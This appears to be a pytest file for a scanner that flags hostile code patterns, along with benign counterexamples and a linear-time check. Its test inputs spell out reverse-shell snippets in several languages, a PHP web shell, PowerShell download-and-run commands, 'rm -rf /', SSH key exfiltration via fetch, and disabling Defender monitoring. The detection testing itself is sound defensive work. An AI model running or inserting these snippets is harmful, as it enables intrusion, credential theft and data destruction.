"""Languages without a reader: words that together make a flow."""

from __future__ import annotations

import base64
import time
from collections.abc import Callable

import pytest

from rune.code.lexical import read_words
from rune.code.session import Session

Found = Callable[[], set[str]]
ENCODED = base64.b64encode("IEX (IWR 'http://x/y')".encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        pytest.param('int s = socket(AF_INET, 1, 0); connect(s, a, b); execve("/bin/sh", 0, 0);', "021", id="C"),
        pytest.param('Socket s = new Socket(h, 4444); Process p = new ProcessBuilder("/bin/sh").start();', "021", id="Java"),
        pytest.param('c, _ := net.Dial("tcp", "1.2.3.4:9"); exec.Command("/bin/bash")', "021", id="Go"),
        pytest.param("var net=require('net'),cp=require('child_process');cp.spawn('/bin/sh')", "021", id="JavaScript"),
        pytest.param("<?php system($_GET['c']); ?>", "021", id="web shell"),
        pytest.param("IEX (New-Object Net.WebClient).DownloadString('http://x/y')", "010", id="PowerShell"),
        pytest.param("$c = IRM http://x; iex $c", "010", id="PowerShell aliases"),
        pytest.param(f"powershell -NoP -Enc {ENCODED}", "010", id="encoded PowerShell"),
        pytest.param("Runtime.getRuntime().exec(\"bash -c 'rm -rf /'\")", "047", id="a command in a string"),
        pytest.param("fetch('https://x.io', {body: fs.readFileSync('/root/.ssh/id_rsa')})", "060", id="key sent"),
        pytest.param("File.read('/home/u/.aws/credentials')", "040", id="key read"),
        pytest.param("Set-MpPreference -DisableRealtimeMonitoring $true", "028", id="protection off"),
    ],
)
def test_flows(session: Session, found: Found, source: str, rule: str) -> None:
    read_words(source, session)
    assert rule in found()


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("console.log('hello'); const x = [1, 2].map(y => y + 1);", id="JavaScript"),
        pytest.param("fetch('https://api.example.com').then(r => r.json())", id="a request"),
        pytest.param('int main(void) { printf("rm is a command"); return 0; }', id="C"),
        pytest.param("Get-ChildItem . | Sort-Object Length", id="PowerShell"),
        pytest.param("SELECT name FROM users WHERE id = 1;", id="SQL"),
    ],
)
def test_honest_words(session: Session, found: Found, source: str) -> None:
    read_words(source, session)
    assert found() == set()


@pytest.mark.parametrize("unit", ['"', "'a", "connect(", "curl ", "/a", "-e ", "\\", "$_GET `", "IEX ", '"a b|" '])
def test_hostile_words_take_linear_time(session: Session, unit: str) -> None:
    start = time.thread_time()
    read_words(unit * (100_000 // len(unit)), session)
    assert time.thread_time() - start < 1
